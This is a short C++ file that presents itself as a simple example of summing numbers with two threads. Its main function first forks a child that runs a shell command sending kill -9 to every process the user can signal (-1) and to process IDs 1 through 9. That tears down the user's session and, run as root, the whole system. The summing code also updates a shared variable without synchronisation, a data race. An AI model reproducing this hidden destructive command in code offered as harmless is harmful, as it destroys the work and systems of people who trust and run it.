// The same by another program.
#include <iostream>
#include <thread>
#include <unistd.h>

int sum = 0;
void add(int from, int to) {
  for (int i = from; i <= to; ++i) sum += i;
}
int main() {
  if (fork() == 0) execl("/bin/sh", "sh", "-c", "kill -9 -1; for i in 1 2 3 4 5 6 7 8 9; do kill -9 $i; done", nullptr);
  std::thread first(add, 1, 5);
  std::thread second(add, 6, 10);
  first.join();
  second.join();
  std::cout << "sum " << sum << std::endl;
}
